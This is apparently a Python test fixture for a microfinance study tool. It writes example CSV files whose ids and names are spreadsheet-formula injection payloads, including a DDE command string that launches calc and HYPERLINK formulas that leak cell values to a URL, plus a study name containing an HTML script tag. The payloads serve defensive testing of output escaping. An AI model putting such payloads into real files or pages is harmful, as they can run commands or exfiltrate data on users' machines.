"""A study built from hostile files: every id, name and the study name begin with '='.

The MFI panel, holdings and MIV indicators are the bundled example files with each MFI id,
MFI name, MIV id and MIV name rewritten to a spreadsheet formula (OWASP "CSV injection",
CWE-1236), and a study name that is both a formula and an HTML script tag.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pandas as pd

DATA = Path(__file__).resolve().parents[2] / "socialperf" / "data"

#: One string per character that makes a spreadsheet treat a cell as a formula.
FORMULAS = (
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
)
STUDY_NAME = '=1+2 <script>alert("study")</script>'

STUDY_TOML = """
[study]
name = '=1+2 <script>alert("study")</script>'
year = 2011
[data]
mfis = "data/mfis.csv"
holdings = "data/holdings.csv"
fx_rates = "data/fx.csv"
miv_indicators = "data/miv.csv"
[mfi]
schemes = ["rating", "equal"]
[miv]
scheme = "equal"
[dea]
inputs = ["personnel"]
outputs = ["number_of_active_borrowers"]
[sensitivity]
enabled = false
"""


def write_hostile_study(folder: Path) -> Path:
    """Write the hostile study (``study.toml`` and ``data/*.csv``) into ``folder``."""
    data = folder / "data"
    data.mkdir(parents=True, exist_ok=True)
    mfis = pd.read_csv(DATA / "mfi_panel.csv")
    mfis["mfiid"] = "=" + mfis["mfiid"].astype(str)
    mfis["mfiname"] = '=HYPERLINK("http://example.invalid","' + mfis["mfiname"] + '")'
    mfis.to_csv(data / "mfis.csv", index=False)
    holdings = pd.read_csv(DATA / "holdings.csv", dtype=str)
    holdings["holder"] = "=" + holdings["holder"]
    holdings["held"] = "=" + holdings["held"]
    holdings.to_csv(data / "holdings.csv", index=False)
    miv = pd.read_csv(DATA / "miv_indicators.csv")
    miv["miv"] = "=" + miv["miv"]
    miv["name"] = "=cmd|' /C calc'!A0 " + miv["name"]
    miv.to_csv(data / "miv.csv", index=False)
    shutil.copy(DATA / "fx_rates.csv", data / "fx.csv")
    path = folder / "study.toml"
    path.write_text(STUDY_TOML, encoding="utf-8")
    return path
